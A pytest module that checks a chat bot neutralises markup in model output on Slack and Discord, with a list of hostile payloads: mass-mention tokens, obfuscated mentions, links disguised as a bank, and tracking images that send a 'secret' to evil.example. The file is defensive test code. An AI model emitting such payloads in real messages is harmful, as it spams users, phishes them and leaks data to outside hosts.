"""Markup in model texts: it pings nobody and hides no link."""

import re
from collections.abc import AsyncIterator
from contextlib import AsyncExitStack
from typing import Any

import discord
import pytest
import pytest_asyncio
from discord.gateway import DiscordWebSocket

from chatrig.slack import SlackMessage
from core.sessions.prompt_text import QUOTE_END
from tests.channels.platforms import PLATFORMS, Chat, run_conversation, run_simulator, shorten_pauses, wait_for_texts

pytestmark = pytest.mark.asyncio(loop_scope="module")

ATTACKS = {
    "a broadcast to the channel": "Look, <!channel> and @everyone!",
    "a broadcast to who is here": "<!here|here> and @here",
    "a broadcast to the whole workspace": "<!everyone> **@everyone**",
    "a user by their id": "Tell <@{user}> and <@!{user}>.",
    "a user with another name": "Tell <@{user}|nobody>.",
    "a role and a user group": "<@&{user}> <!subteam^{user}> <!subteam^{user}|team>",
    "a channel as a link": "See <#{user}> and <#{user}|general>.",
    "a token that is split by markup": "<**!channel**> <!_here_> @**everyone**",
    "a token out of html": "<b><!channel></b> @<span>everyone</span> &lt;!channel&gt;",
    "a token in a table": "| a |\n| --- |\n| <!channel> @everyone |",
    "a token in a heading": "# <!channel> @everyone",
    "a token in a quote and a list": "> <!here>\n\n- @here\n1. <@{user}>",
    "a token as the text of a link": "[<!channel>](https://x.example) [@everyone](https://x.example)",
    "a token as the target of a link": "[click](<!channel>) [click](<@{user}>)",
    "a token behind an open fence": "```\ncode\n```<!channel> @everyone",
    "a token behind a backslash": "\\<!channel> \\@everyone \\<@{user}>",
    "a date that carries a link": "<!date^1392734382^{{date}}^https://evil.example|free>",
    "a link that looks like another": "[https://bank.example](https://evil.example/login)",
    "a link in slack's own words": "<https://evil.example/login|https://bank.example>",
    "a command to be pressed": "</reset:{user}> <slackapp://x|press>",
    "a picture that tells who looks": "![x](https://evil.example/track.png?secret)",
    "a picture by a reference": "![x][p] [link][p]\n\n[p]: https://evil.example/track.png?secret",
    "a picture that is a link": "[![x](https://evil.example/a.png)](https://evil.example/?secret)",
    "a link whose words turn round": "[\u202emoc.elpmaxe.knab//:sptth](https://evil.example/login)",
    "a link with a host for a name": "[bank](https://bank.example@evil.example/login)",
    "a link with a target in brackets": "[https://bank.example](<https://evil.example/login>)",
    "a token with a joint in it": "@\u200beveryone <\u200b!channel> <@\u200b{user}>",
    "a token of wide letters": "\uff20everyone \uff1c!channel\uff1e",
    "what only looks like a token": "<id:customize> <t:0:R> <a:x:{user}> </stop:{user}>",
    "a mail and a phone": "<mailto:x@evil.example|x@bank.example> <tel:1|call>",
}


#: Markup of each platform.
TOKENS = {"slack": r"<(!|@|#|/|https?:[^>|]*\||slackapp)", "discord": r"<[@#/]|@(everyone|here)"}


def answer_case(request: Any) -> str:
    return answers[request.text.rpartition(QUOTE_END)[2].strip().rpartition("case ")[2]]


answers = dict[str, str]()


def has_no_previews(reply: Any) -> bool:
    """Return whether a message suppresses link previews, whose fetch leaks the URL."""
    if isinstance(reply, SlackMessage):
        return (reply.unfurl_links, reply.unfurl_media) == (False, False)
    return bool(reply.flags & discord.MessageFlags.suppress_embeds.flag)


@pytest_asyncio.fixture(scope="module", loop_scope="module", params=PLATFORMS)
async def chat(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Chat]:
    """Yield one conversation with a bot for all attacks of the module."""
    async with AsyncExitStack() as stack:
        patched = stack.enter_context(pytest.MonkeyPatch.context())
        patched.setattr(discord.http.Route, "BASE", discord.http.Route.BASE)
        patched.setattr(DiscordWebSocket, "DEFAULT_GATEWAY", DiscordWebSocket.DEFAULT_GATEWAY)
        simulator = await stack.enter_async_context(run_simulator(request.param))
        folder = tmp_path_factory.mktemp(request.param)
        chat = await stack.enter_async_context(run_conversation(simulator, folder, answer_case, max_chunks=20))
        shorten_pauses(chat.bot)
        user = simulator.people["grace"].id
        answers.update({str(n): f"{text.format(user=user)}\n\nend {n}." for n, text in enumerate(ATTACKS.values())})
        yield chat


@pytest.mark.parametrize("attack", ATTACKS)
async def test_markup_in_model_text_is_shown_as_text(chat: Chat, attack: str) -> None:
    number = list(ATTACKS).index(attack)
    await chat.say(f"case {number}")
    await wait_for_texts(chat, lambda found: [text for text in found if f"end {number}." in text])
    (reply,) = [message for message in chat.list_replies() if f"end {number}." in message.text]
    assert reply.pings == frozenset()
    assert has_no_previews(reply)
    content = re.sub(
        r"```.*?(```|$)", "", str(reply.content).replace("\\n", "\n"), flags=re.DOTALL
    )  # code stays visible
    assert not re.search(TOKENS[chat.bot.adapter.name], content), content
    if "link" in attack and "evil" in ATTACKS[attack]:
        assert "evil.example" in reply.text
